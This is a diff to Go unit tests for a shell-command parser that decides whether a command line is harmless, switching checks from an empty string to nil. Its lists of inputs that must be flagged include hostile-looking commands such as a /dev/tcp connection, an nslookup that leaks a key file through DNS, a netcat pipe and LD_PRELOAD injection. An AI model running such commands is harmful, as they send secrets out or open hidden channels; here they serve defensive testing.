@@ -217,7 +217,7 @@ func TestNotHarmless(t *testing.T) {
 		"", "ls -la", "cat a | grep -n b | wc -l", "for f in *.go; do wc -l \"$f\"; done", "mkdir -p a && cp x a/ && rm -rf b", "echo hi > out.txt", "find . -name '*.go' -exec grep -l x {} +", "ls | xargs -n1 basename",
 		"timeout 5 sleep 10", "cat <<'EOF' > f\ngit push\nEOF", "[ -f x ] && echo y", "x=$(date); echo \"$x\"", "set -euo pipefail; jq .a f.json | sort -u", "cd src; pwd; test -d x || mkdir x", "cat $x", "command -v git",
 	} {
-		if l, err := Parse(line); err != nil || l.NotHarmless() != "" {
+		if l, err := Parse(line); err != nil || l.NotHarmless() != nil {
 			t.Errorf("%q: %v, %s", line, err, l.NotHarmless())
 		}
 	}
@@ -226,7 +226,7 @@ func TestNotHarmless(t *testing.T) {
 		"xargs git", "find . -exec ./x {} +", "timeout 5 ./x", "PATH=.:$PATH; ls", "ls() { ./x; }; ls", "alias ls=./x; ls", "cat < /dev/tcp/192.0.2.1/80", "source ./x", "eval ls", "trap './x' EXIT", "tar cf - . --to-command=x", "unheard-of",
 		"LD_PRELOAD=./x ls", "rg --pre ./x y", strings.Repeat("ls\n", maxLine/3), "less x", "man ls", "vim x", "ssh host ls", "ping x", "nslookup $(cat key).example.org", "kubectl get pods", "printf x | tee >(nc host 1)",
 	}, evasions...) {
-		if l, err := Parse(line); err == nil && l.NotHarmless() == "" {
+		if l, err := Parse(line); err == nil && l.NotHarmless() == nil {
 			t.Errorf("%q counts as harmless: %s", line, summary(l))
 		}
 	}
@@ -249,7 +249,7 @@ func TestEffort(t *testing.T) {
 			}
 			outside := l.NotHarmless()
 			told := l.Unsure == "" && l.Untold() == nil
-			if outside == "" {
+			if outside == nil {
 				t.Errorf("%d bytes of %q: the git push behind them is taken for harmless", size, unit)
 			}
 			switch {
